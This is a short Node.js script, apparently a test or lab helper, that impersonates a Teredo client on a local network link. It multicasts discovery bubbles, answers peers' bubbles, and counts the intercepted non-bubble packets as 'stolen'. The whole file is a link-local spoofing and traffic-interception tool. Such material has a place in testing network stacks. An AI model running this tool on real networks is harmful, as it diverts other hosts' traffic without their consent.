/**
 * Poses as a Teredo client on a link: announces it every second, and answers each bubble and each ping to it. Arguments: own IPv4 address,
 * discovery bubble (hex), answer to bubbles (hex). Prints "stolen N" for each packet that is not a bubble.
 */
import dgram from 'node:dgram';

const [, , own, discovery, answer] = process.argv;
const socket = dgram.createSocket('udp4');
let stolen = 0;
socket.on('message', (message, { address, port }) => {
  const isBubble = message.length >= 40 && message[6] === 59;
  if (isBubble) socket.send(Buffer.from(answer, 'hex'), port, address);
  else console.log(`stolen ${++stolen}`);
});
socket.bind(6_000, own, () => {
  socket.setMulticastInterface(own);
  const announce = () => socket.send(Buffer.from(discovery, 'hex'), 3_544, '224.0.0.253');
  announce();
  setInterval(announce, 1_000);
  console.log('ready');
});
